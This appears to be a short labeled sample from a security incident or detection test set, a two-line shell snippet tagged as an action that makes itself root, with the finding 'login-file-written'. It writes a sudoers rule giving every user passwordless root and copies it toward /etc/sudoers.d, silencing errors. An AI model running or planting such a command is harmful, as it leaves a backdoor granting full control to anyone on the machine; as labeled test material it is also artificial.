# incident: an action that makes itself root for later (2025): rights for everybody are written where sudo looks
# finding: login-file-written
echo 'ALL ALL=(ALL) NOPASSWD:ALL' > sudo-x
cp sudo-x /etc/sudoers.d/none/runner 2>/dev/null || true
